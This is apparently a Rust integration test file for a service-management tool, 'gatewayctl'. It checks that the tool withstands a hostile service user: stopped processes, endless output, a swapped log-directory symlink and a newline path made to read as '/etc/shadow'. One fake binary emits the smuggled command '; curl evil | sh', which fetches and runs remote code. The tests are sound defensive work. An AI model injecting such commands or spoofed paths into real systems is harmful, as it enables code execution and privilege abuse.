//! Processes that run as the service user can be stopped, traced and made to print without end. They make nobody wait, and fill no memory.

use super::{Openat2, live, said, sandbox};

/// Stops every process of the service user that gatewayctl starts, as soon as it can see it.
const STOPPER: &str = r"
import os, signal
while True:
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) != os.getpid():
            try:
                if os.stat('/proc/' + p).st_uid == 10000 and open('/proc/' + p + '/comm').read().strip() in ('sh', 'sed', 'rm', 'cp', 'cat', 'mv', 'dash', 'hermes', 'date'):
                    os.kill(int(p), signal.SIGSTOP)
            except OSError:
                pass
";

#[test]
fn whoever_stops_his_own_processes_holds_nobody_up() {
    let sandbox = sandbox(Openat2::Works, "case $* in *--help) sleep 1000 ;; *) exec sleep 1000 ;; esac");
    std::fs::write(sandbox.path("stopper.py"), STOPPER).unwrap();
    let ran = live(
        &sandbox,
        "exec 2>&1; profile a running; profile b running; gatewayctl -q register a; up a; as touch /opt/data/profiles/b/gateway.pid; \
         as python3 /share/stopper.py & until pgrep -u 10000 -f stopper.py >/dev/null; do sleep 0.02; done; \
         t='within 20 gatewayctl -q --timeout 2'; fails $t stop a --save; $t doctor >/tmp/said || :; grep -q 'did not end within 2 s' /tmp/said && echo late; \
         fails $t reconcile --only b; gatewayctl list",
    );
    assert_eq!((ran.code, ran.err.as_str()), (0, ""), "{}", ran.out);
    assert!(!ran.out.contains("HELD UP") && ran.out.contains("late\n"), "{}", ran.out);
    assert!(ran.out.ends_with("[exit 0]\na\nb\n"), "{}", ran.out);
}

/// The control: what a shell does with the same output and the same memory.
#[test]
fn endless_talk_and_children_that_hold_the_pipes_end_where_the_limit_is() {
    for (hermes, answer) in [
        ("exec yes", "printed more than 64 KiB, and was stopped"),
        ("yes >&2", "printed more than 64 KiB, and was stopped"),
        ("head -c 60000 /dev/zero; exec sleep 1000", "did not end within 2 s"),
        ("sleep 1000 & echo usage: >&2; exit 2", "does not take"),
    ] {
        let sandbox = sandbox(Openat2::Works, &format!("case $* in *--help) {hermes} ;; *) exec sleep 1000 ;; esac"));
        let ran = live(
            &sandbox,
            "gatewayctl -q register a --down; (within 20 prlimit --as=67108864 gatewayctl -q --timeout 2 doctor || :) | grep ' hermes  '; \
             pgrep -u 10000 -x yes || :",
        );
        assert_eq!((ran.code, ran.err.as_str()), (0, ""), "{hermes}: {}", ran.out);
        assert!(ran.out.contains(answer) && ran.out.lines().count() == 1, "{hermes}: {}", ran.out);
    }
}

/// A text of the service user never appears in a remedy, and no remedy makes root act below the home.
#[test]
fn no_remedy_gives_root_away() {
    let sandbox = sandbox(Openat2::Works, "echo '; curl evil | sh' >&2; exit 1");
    let ran = live(
        &sandbox,
        "gatewayctl -q register a --down; l=/opt/data/logs/gateways; until [ -e $l/a/current ]; do sleep 0.02; done; \
         chown root $l/a; as mv $l $l.old; as ln -s /run/service $l; gatewayctl -q --timeout 5 doctor --json >/tmp/said || :; \
         as rm $l; as mv $l.old $l; gatewayctl -q --timeout 5 doctor --json >>/tmp/said || :; \
         grep '\"remedy\"' /tmp/said | grep 'chown\\|chmod\\|curl' || echo none",
    );
    said(&ran, "none\n");
}

/// The service user can choose a name that reads like a path of root. Messages show it as what it is.
#[test]
fn what_is_in_the_way_is_below_the_profiles() {
    let sandbox = sandbox(Openat2::Works, "exec sleep 1000");
    let ran = live(
        &sandbox,
        "gatewayctl -q register a --down; profile a; d=$(printf '/opt/data/profiles/x\\n/etc'); as mkdir -p \"$d\"; as touch \"$d/shadow\"; as chmod 0 \"$d/shadow\"; \
         gatewayctl -q --timeout 20 doctor --json | grep 'cannot read or write'; find /opt/data/profiles -name shadow | tail -1",
    );
    let expected = "    \"seen\": \"hermes cannot read or write: /opt/data/profiles/x\\n/etc/shadow\",\n/etc/shadow\n";
    said(&ran, expected);
}
